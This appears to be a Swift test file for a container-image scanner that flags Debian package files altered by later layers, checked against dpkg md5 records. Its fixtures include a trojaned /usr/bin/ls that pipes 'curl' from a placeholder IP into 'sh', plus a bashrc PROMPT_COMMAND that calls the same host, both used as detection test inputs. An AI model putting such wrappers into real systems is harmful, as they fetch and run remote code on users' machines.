import Findings
import Forensics
import LayerPass
import TestSupport
import Testing

/// `integrity.package-file-modified` on the real Debian bookworm minbase root filesystem with a layer on top, as
/// an image build would add: the tampering patterns are found with their evidence, the benign builds are clean.
@Suite struct PackageFileIntegrityDebianTests {
    /// coreutils records `bin/ls`; on bookworm's merged /usr the file is at `usr/bin/ls`.
    static let lsRecorded = "md5:7987cf330ff5bb94015dfbb9eae5a99f"
    static let trojan = "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\nexec /usr/bin/ls.real \"$@\"\n"

    static func scan(_ upper: [TarWriter.Entry]...) throws -> IntegrityScan {
        try IntegrityScan([try IntegrityScan.debianBase.get()] + upper.map { .entries($0) })
    }

    /// coreutils' md5sums with `bin/ls` recorded as `content`'s digest, as dpkg writes it when it installs a new
    /// version.
    static func coreutilsSums(recordingLsAs content: String) throws -> String {
        let md5 = FileDigests(of: Array(content.utf8)).hex("md5")!
        let sums = try IntegrityScan.debianMember("var/lib/dpkg/info/coreutils.md5sums")
        return sums.split(separator: "\n").map { $0.hasSuffix("  bin/ls") ? "\(md5)  bin/ls" : String($0) }
            .joined(separator: "\n") + "\n"
    }

    @Test func realDebianImageHasNoFindingsAndComparesItsPackageFiles() throws {
        let scan = try Self.scan()
        #expect(scan.findings.isEmpty, "\(scan.findings.map(\.title))")
        // Measured on bookworm minbase: 4,327 files compared; the 2,093 unverified are documentation, manual pages
        // and translations, which the pass does not digest.
        #expect(scan.outcome.compared > 4_000)
        #expect(scan.outcome.compared + scan.outcome.unverified > 6_000)
        // etc/dpkg comes before lib/ and usr/ in the tarball: the bulk of the files is digested in MD5 alone, and
        // nothing needs a second read.
        #expect(scan.layers[0].fileDigests["usr/bin/ls"]?.algorithms == .md5)
        #expect(scan.digestedAgain == 0)
        print("debian minbase: compared \(scan.outcome.compared), unverified \(scan.outcome.unverified), digested "
              + "\(scan.layers.map(\.fileDigests.count).reduce(0, +)) files")
    }

    @Test func realDebianImageWithLanguagePackagesHasNoFindings() throws {
        // Maintainer scripts compile Python byte code, register alternatives and rebuild caches: none of it is a
        // file a package recorded.
        let scan = try IntegrityScan([try IntegrityScan.debianLanguages.get()])
        #expect(scan.findings.isEmpty, "\(scan.findings.map(\.title))")
        #expect(scan.outcome.compared > 4_000)
        print("debian with language packages: compared \(scan.outcome.compared), unverified "
              + "\(scan.outcome.unverified)")
    }

    @Test func binaryReplacedByALaterLayerIsFoundWithItsPackageAndDigests() throws {
        let scan = try Self.scan([.file("usr/bin/ls", Self.trojan, mode: 0o755)])
        let finding = try #require(scan.findings.only)
        #expect(finding.category == "integrity.package-file-modified")
        #expect(finding.ruleID == "SG-INTEGRITY-001")
        #expect(finding.severity == .high)
        #expect(finding.evidence.path == "usr/bin/ls")
        #expect(finding.evidence.layer?.index == 1)
        #expect(finding.evidence.layer?.digest == scan.layers[1].descriptor.digest.description)
        let facts = try #require(finding.evidence.facts)
        #expect(facts["package"] == "coreutils")
        #expect(facts["packageType"] == "deb")
        #expect(facts["recordedPath"] == "bin/ls")
        #expect(facts["recordedDigest"] == Self.lsRecorded)
        #expect(facts["actualDigest"] == "md5:" + FileDigests(of: Array(Self.trojan.utf8)).hex("md5")!)
        #expect(facts["configuration"] == "false")
        #expect(facts["databaseLayer"] == "0")
    }

    @Test func layerThatShowsAnotherPackageManagerStillHasItsSwappedBinaryFound() throws {
        // Why: an apk directory ahead of the binary narrows the layer's digests to SHA-1, which dpkg never records;
        // the check must read the layer again rather than leave the binary unjudged.
        let scan = try Self.scan([.directory("etc/"), .directory("etc/apk/"),
                                  .file("usr/bin/ls", Self.trojan, mode: 0o755)])
        #expect(scan.findings.only?.evidence.path == "usr/bin/ls")
        #expect(scan.digestedAgain == 1)
    }

    @Test func editedConffileIsReportedAtLowSeverity() throws {
        let scan = try Self.scan([.file("etc/bash.bashrc", "export PROMPT_COMMAND='curl -s http://203.0.113.7'\n")])
        let finding = try #require(scan.findings.only)
        #expect(finding.ruleID == "SG-INTEGRITY-002")
        #expect(finding.severity == .low)
        #expect(finding.evidence.path == "etc/bash.bashrc")
        #expect(finding.evidence.facts?["package"] == "bash")
        #expect(finding.evidence.facts?["configuration"] == "true")
        #expect(finding.evidence.facts?["recordedDigest"] == "md5:89269e1298235f1b12b4c16e4065ad0d")
    }

    @Test func applicationLayerThatAddsAUserAndDeletesDocsIsClean() throws {
        let passwd = try IntegrityScan.debianMember("etc/passwd") + "app:x:1000:1000::/home/app:/bin/sh\n"
        let scan = try Self.scan([
            .directory("etc/"), .file("etc/passwd", passwd),
            .directory("usr/"), .directory("usr/share/"), .file("usr/share/.wh.doc"), .file("usr/share/.wh.man"),
            .directory("home/"), .directory("home/app/"), .file("home/app/server.py", "print('hi')\n"),
        ])
        #expect(scan.findings.isEmpty, "\(scan.findings.map(\.title))")
    }

    @Test func upgradeThatRewritesFileAndDigestsInOneLayerIsClean() throws {
        let upgraded = "\u{7f}ELF coreutils 9.1-1+deb12u1 ls\n"
        let scan = try Self.scan([
            .file("usr/bin/ls", upgraded, mode: 0o755),
            .file("var/lib/dpkg/info/coreutils.md5sums", try Self.coreutilsSums(recordingLsAs: upgraded)),
        ])
        #expect(scan.findings.isEmpty, "\(scan.findings.map(\.title))")
    }

    @Test func fileChangedThenRecordedByALaterLayerIsClean() throws {
        let upgraded = "\u{7f}ELF coreutils 9.1-1+deb12u1 ls\n"
        let scan = try Self.scan([.file("usr/bin/ls", upgraded, mode: 0o755)],
                                 [.file("var/lib/dpkg/info/coreutils.md5sums",
                                        try Self.coreutilsSums(recordingLsAs: upgraded))])
        #expect(scan.findings.isEmpty, "\(scan.findings.map(\.title))")
    }

    @Test func databaseRewrittenWithAnotherDigestStillFindsTheSwappedBinary() throws {
        let sums = try Self.coreutilsSums(recordingLsAs: "something else")
        let scan = try Self.scan([.file("usr/bin/ls", Self.trojan, mode: 0o755),
                                  .file("var/lib/dpkg/info/coreutils.md5sums", sums)])
        #expect(scan.findings.only?.ruleID == "SG-INTEGRITY-001")
    }
}

extension Array {
    /// The single element, or nil when there are none or several.
    var only: Element? { count == 1 ? first : nil }
}
